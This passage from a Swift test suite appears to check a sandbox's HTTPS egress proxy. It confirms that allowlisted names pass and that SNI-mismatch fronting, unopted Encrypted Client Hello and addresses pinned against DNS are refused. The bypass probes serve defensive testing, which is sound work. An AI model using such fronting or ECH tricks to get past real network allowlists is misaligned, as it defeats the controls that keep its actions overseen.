                #expect(r.climbResult(tool) == "ok WORLD tls \(w.allowedIP) 443 allowed.test", "\(tool): \(r.transcript)")
                #expect(r.climbResult(tool + "-http") == "ok WORLD tcp \(w.allowedIP) 80", "\(tool): \(r.transcript)")
            }
            #expect(r.climbResult("git")?.hasPrefix("ok WORLD reached") == true, "git: \(r.transcript)")
            #expect(r.failed("front"), "\(r.transcript)")
            #expect(r.reasons(w.allowedIP) == ["sni_mismatch"], "\(r.transcript)")
        }
    }

    /// The issue's remaining real clients: python `requests` (urllib3's TLS)
    /// and pip (its vendored requests), each as shipped, with no proxy
    /// variables, against the world's HTTPS server. pip fetches a PEP 503
    /// index and a wheel whose sha256 it checks.
    @Test("python requests and pip reach an allowed HTTPS name through the relay, unchanged", arguments: [false, true])
    func requestsAndPip(rootless: Bool) throws {
        let haveRequests = (try? Harness.runProcess(["/usr/bin/python3", "-c", "import requests"]))?.status == 0
        let havePip = (try? Harness.runProcess(["/usr/bin/python3", "-m", "pip", "--version"]))?.status == 0
        if !haveRequests { print("SKIP: requestsAndPip: python3 cannot import requests (install python3-requests)") }
        if !havePip { print("SKIP: requestsAndPip: python3 has no pip (install python3-pip)") }
        guard haveRequests || havePip else { return }
        try NetworkWorld.with { w in
            var probes = ["resolve r allowed.test"]
            if haveRequests { probes.append("client requests requests https://allowed.test/") }
            if havePip { probes += ["pip pip https://allowed.test/simple/", "pip pipother https://other.test/simple/"] }
            let r = try w.probe(probes, allow: ["allowed.test"], timeout: 180, rootless: rootless)
            #expect(r.ok("r"), "\(r.transcript)")
            if haveRequests {
                #expect(r.climbResult("requests") == "ok WORLD tls \(w.allowedIP) 443 allowed.test", "\(r.transcript)")
            }
            if havePip {
                #expect(r.climbResult("pip") == "ok WORLD pip stkdemo-1.0-py3-none-any.whl", "\(r.transcript)")
                // A name the allowlist lacks is refused by the proxy: pip gets nowhere.
                #expect(r.failed("pipother"), "\(r.transcript)")
            }
            // Every HTTPS connection the server saw came through the relay (the
            // host namespace's address), named allowed.test.
            let tls = w.serverLog.split(separator: "\n").filter { $0.hasPrefix("tls \(w.allowedIP) 443 ") }
            #expect(!tls.isEmpty && tls.allSatisfy { $0.hasSuffix("from \(w.hostAddress) sni=allowed.test") }, "\(w.serverLog)")
            #expect(r.events("net.denied").isEmpty, "\(r.transcript)")
        }
    }

    /// ECH (and GREASE ECH, which looks the same) passes only when the rule
    /// opts its outer name in, and then only as a plain SNI would: allowed,
    /// and resolved by the proxy to that very address.
    @Test("an ECH ClientHello is refused without --allow-ech; with it, only an outer name resolved to that address passes", arguments: [false, true])
    func echOptIn(rootless: Bool) throws {
        try NetworkWorld.with { w in
            // a.wild.test resolves to allowedIP, b.wild.test to otherIP; allowed.test to allowedIP.
            let probes = ["resolve r allowed.test", "resolve a a.wild.test",
                          "hello wild \(w.allowedIP) 443 a.wild.test ech",
                          "hello other \(w.allowedIP) 443 b.wild.test ech",
                          "hello plain \(w.allowedIP) 443 allowed.test ech"]
            let allow = ["allowed.test", "*.wild.test"]
            let without = try w.probe(probes, allow: allow, rootless: rootless)
            #expect(without.ok("r") && without.ok("a"), "\(without.transcript)")
            for label in ["wild", "other", "plain"] { #expect(without.failed(label), "\(label): \(without.transcript)") }
            #expect(Set(without.reasons(w.allowedIP)) == ["ech"], "\(without.transcript)")
            #expect(w.serverConnections(to: w.allowedIP, port: 443).isEmpty, "\(w.serverLog)")

            let with = try w.probe(probes, allow: allow, rootless: rootless, extra: ["--allow-ech", "*.wild.test"])
            #expect(with.ok("r") && with.ok("a"), "\(with.transcript)")
            // Opted in, allowed, resolved to this address: the server answers.
            #expect(with.ok("wild"), "\(with.transcript)")
            #expect(w.serverConnections(to: w.allowedIP, port: 443).filter { $0.hasPrefix("tcp ") }.count == 1, "\(w.serverLog)")
            #expect(w.serverLog.contains("sni=a.wild.test") || w.serverLog.contains("tlsfail \(w.allowedIP) 443"), "\(w.serverLog)")
            // Opted in, but b.wild.test was never resolved to this address.
            #expect(with.failed("other"), "\(with.transcript)")
            // Allowed and resolved, but not opted in.
            #expect(with.failed("plain"), "\(with.transcript)")
            let denied = with.denied(w.allowedIP, port: 443)
            #expect(denied.contains { $0["reason"]?.stringValue == "not_resolved" && $0["name"]?.stringValue == "b.wild.test" }, "\(with.transcript)")
            #expect(denied.contains { $0["reason"]?.stringValue == "ech" && $0["name"]?.stringValue == "allowed.test" }, "\(with.transcript)")
            #expect(Set(with.reasons(w.allowedIP)) == ["not_resolved", "ech"], "\(with.transcript)")
            let egress = with.events("sandbox.start").first?["policy"]?.objectValue?["egress"]?.objectValue
            #expect(egress?["allow_ech"]?.arrayValue?.compactMap(\.stringValue) == ["*.wild.test"], "\(with.transcript)")
            #expect(without.events("sandbox.start").first?["policy"]?.objectValue?["egress"]?.objectValue?["allow_ech"] == nil)
        }
    }

    @Test("a name allowed by a wildcard but resolved to another address is refused (not_resolved)", arguments: [false, true])
    func wildcardNotResolved(rootless: Bool) throws {
        try NetworkWorld.with { w in
            // a.wild.test resolves to allowedIP; b.wild.test is allowed too, but to otherIP.
            let r = try w.probe(["resolve a a.wild.test", "curl ok https://a.wild.test/",
                                 "curl b https://b.wild.test/ b.wild.test:443:\(w.allowedIP)"], allow: ["*.wild.test"],
                                rootless: rootless)
            #expect(r.climbResult("ok") == "ok WORLD tls \(w.allowedIP) 443 a.wild.test", "\(r.transcript)")
            #expect(r.failed("b"), "\(r.transcript)")
            #expect(r.reasons(w.allowedIP) == ["not_resolved"], "\(r.transcript)")
            #expect(!w.serverLog.contains("sni=b.wild.test"), "\(w.serverLog)")
        }
    }

    @Test("a ClientHello split across TCP segments, and one sent a byte at a time, is read whole and allowed", arguments: [false, true])
    func splitAndSlowHello(rootless: Bool) throws {
        try NetworkWorld.with { w in
            let r = try w.probe(["resolve r allowed.test", "tlsslow split allowed.test allowed.test 443 100 0.05",
                                 "tlsslow slow allowed.test allowed.test 443 1 0.002"], allow: ["allowed.test"], timeout: 180,
                                rootless: rootless)
            #expect(r.climbResult("split") == "ok WORLD tls \(w.allowedIP) 443 allowed.test", "\(r.transcript)")
            #expect(r.climbResult("slow") == "ok WORLD tls \(w.allowedIP) 443 allowed.test", "\(r.transcript)")
            #expect(r.events("net.denied").isEmpty, "\(r.transcript)")
        }
    }
}
